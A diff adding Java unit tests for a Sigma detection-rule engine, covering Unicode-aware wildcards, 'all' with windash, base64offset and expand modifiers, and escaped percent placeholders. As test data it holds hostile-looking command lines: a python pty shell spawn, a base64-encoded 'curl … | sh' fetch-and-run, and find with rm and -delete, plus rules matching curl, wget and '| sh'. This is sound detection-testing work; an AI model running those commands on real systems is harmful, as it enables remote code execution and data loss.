@@ -49,6 +49,32 @@ class SigmaModifierTest {
         assertThat(fires(detection, exec("/usr/bin/ncat", "ncat"))).isFalse();
     }
 
+    /** "{@code ?} to replace a single mandatory character": a character outside the BMP is one, not two. */
+    @Test
+    void questionMarkAndStarCountCharactersNotUtf16Units() {
+        String one = """
+                selection:
+                    CommandLine: 'echo ?'
+                condition: selection
+                """;
+        assertThat(fires(one, exec("/bin/echo", "echo \uD83D\uDE00"))).as("U+1F600 is one character").isTrue();
+        assertThat(fires(one, exec("/bin/echo", "echo \uD801\uDC37"))).as("U+10437").isTrue();
+        assertThat(fires(one, exec("/bin/echo", "echo ab"))).isFalse();
+
+        String two = one.replace("'echo ?'", "'echo ??'");
+        assertThat(fires(two, exec("/bin/echo", "echo \uD83D\uDE00"))).isFalse();
+        assertThat(fires(two, exec("/bin/echo", "echo \uD83D\uDE00\uD83D\uDE00"))).isTrue();
+        assertThat(fires(two, exec("/bin/echo", "echo a\uD83D\uDE00"))).isTrue();
+
+        String around = one.replace("'echo ?'", "'echo ?*?'");
+        assertThat(fires(around, exec("/bin/echo", "echo \uD83D\uDE00"))).as("two characters needed").isFalse();
+        assertThat(fires(around, exec("/bin/echo", "echo \uD83D\uDE00x\uD83D\uDE00"))).isTrue();
+
+        String cased = one.replace("CommandLine:", "CommandLine|cased:").replace("'echo ?'", "'echo ?!'");
+        assertThat(fires(cased, exec("/bin/echo", "echo \uD83D\uDE00!"))).isTrue();
+        assertThat(fires(cased, exec("/bin/echo", "echo \uD83D!"))).as("a lone surrogate is one unit too").isTrue();
+    }
+
     @Test
     void backslashEscapesWildcardsAndItself() {
         String literalStar = """
@@ -143,6 +169,66 @@ class SigmaModifierTest {
                 """;
         assertThat(fires(detection, exec("/usr/bin/python3", "python3 -c import socket,pty;pty.spawn('sh')"))).isTrue();
         assertThat(fires(detection, exec("/usr/bin/python3", "python3 -c import socket"))).isFalse();
+    }
+
+    /*
+     * 'all' links the listed values with AND; windash, base64offset and expand turn each value into several variants
+     * ("all possible permutation of strings", "three variants for shifts by zero to two bytes", "expand to value
+     * list"), which stay OR-ed: each listed value must match in some of its variants, not every variant of it.
+     */
+
+    @Test
+    void allWithWindashNeedsEachValueInSomeDashForm() {
+        String detection = """
+                selection:
+                    CommandLine|windash|contains|all:
+                        - ' -exec '
+                        - ' -delete'
+                condition: selection
+                """;
+        assertThat(fires(detection, exec("/usr/bin/find", "find . -exec rm {} ; -delete"))).isTrue();
+        assertThat(fires(detection, exec("/usr/bin/find", "find . /exec rm {} ; \u2013delete"))).isTrue();
+        assertThat(fires(detection, exec("/usr/bin/find", "find . -exec rm {} ;"))).isFalse();
+        assertThat(fires(detection, exec("/usr/bin/find", "find . -delete"))).isFalse();
+    }
+
+    @Test
+    void allWithBase64offsetNeedsEachValueAtSomeOffset() {
+        String detection = """
+                selection:
+                    CommandLine|base64offset|contains|all:
+                        - 'curl '
+                        - '| sh'
+                condition: selection
+                """;
+        for (String prefix : List.of("", "a", "ab")) {
+            String encoded = Base64.getEncoder().encodeToString((prefix + "curl http://x/i | sh")
+                    .getBytes(StandardCharsets.UTF_8));
+            assertThat(fires(detection, exec("/bin/sh", "sh -c echo " + encoded))).as("offset %d", prefix.length())
+                    .isTrue();
+        }
+        String half = Base64.getEncoder().encodeToString("curl http://x/i > out".getBytes(StandardCharsets.UTF_8));
+        assertThat(fires(detection, exec("/bin/sh", "sh -c echo " + half))).isFalse();
+    }
+
+    @Test
+    void allWithExpandNeedsEachValueInSomeExpansion() throws SigmaRuleException {
+        FieldMapping mapping = FieldMapping.defaults().withOverrides("mine.yaml", """
+                placeholders:
+                    fetchers: [curl, wget]
+                """);
+        String yaml = SigmaTestSupport.processRule("""
+                selection:
+                    CommandLine|expand|contains|all:
+                        - '%fetchers% '
+                        - ' -O '
+                condition: selection
+                """);
+        CompiledRuleSet rules = SigmaTestSupport.load(SigmaEngine.create(mapping), yaml);
+        assertThat(rules.match(exec("/usr/bin/wget", "wget -O /tmp/x http://x"))).hasSize(1);
+        assertThat(rules.match(exec("/usr/bin/curl", "curl -O http://x"))).hasSize(1);
+        assertThat(rules.match(exec("/usr/bin/wget", "wget http://x"))).isEmpty();
+        assertThat(rules.match(exec("/usr/bin/nc", "nc -O x"))).isEmpty();
     }
 
     @Test
@@ -404,6 +490,52 @@ class SigmaModifierTest {
         assertThat(rules.match(exec("/bin/sh", "sh"))).hasSize(1);
         assertThat(rules.match(exec("/bin/bash", "bash"))).hasSize(1);
         assertThat(rules.match(exec("/bin/zsh", "zsh"))).isEmpty();
+    }
+
+    /*
+     * "A plain percent character can be used by escaping it with a backslash": field: %name% is literal,
+     * field|expand: %name% a placeholder, field|expand: \%plain%name% the plain value %plain and the placeholder.
+     */
+    @Test
+    void anEscapedPercentInExpandIsAPlainPercent() throws SigmaRuleException {
+        FieldMapping mapping = FieldMapping.defaults().withOverrides("mine.yaml", """
+                placeholders:
+                    admins: [root, admin]
+                """);
+        SigmaEngine engine = SigmaEngine.create(mapping);
+        CompiledRuleSet rules = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
+                selection:
+                    CommandLine|expand|endswith: 'su \\%plain%admins%'
+                condition: selection
+                """));
+        assertThat(rules.match(exec("/bin/su", "su %plainroot"))).hasSize(1);
+        assertThat(rules.match(exec("/bin/su", "su %plainadmin"))).hasSize(1);
+        assertThat(rules.match(exec("/bin/su", "su %plain%admins%"))).isEmpty();
+        assertThat(rules.match(exec("/bin/su", "su \\%plainroot"))).as("the escaping backslash is gone").isEmpty();
+
+        CompiledRuleSet percents = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
+                selection:
+                    CommandLine|expand|endswith: '\\%admins\\% = 100\\%'
+                condition: selection
+                """));
+        assertThat(percents.match(exec("/bin/sh", "echo %admins% = 100%"))).hasSize(1);
+        assertThat(percents.match(exec("/bin/sh", "echo root = 100%"))).isEmpty();
+
+        CompiledRuleSet backslash = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
+                selection:
+                    CommandLine|expand|endswith: 'C:\\\\%admins%'
+                condition: selection
+                """));
+        assertThat(backslash.match(exec("/bin/sh", "dir C:\\root"))).as("an escaped backslash, then the placeholder")
+                .hasSize(1);
+
+        CompiledRuleSet plain = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
+                selection:
+                    CommandLine|endswith: ' %admins%'
+                condition: selection
+                """));
+        assertThat(plain.match(exec("/bin/sh", "echo %admins%"))).as("without expand: literal").hasSize(1);
+        assertThat(plain.match(exec("/bin/sh", "echo root"))).isEmpty();
     }
 
     @Test
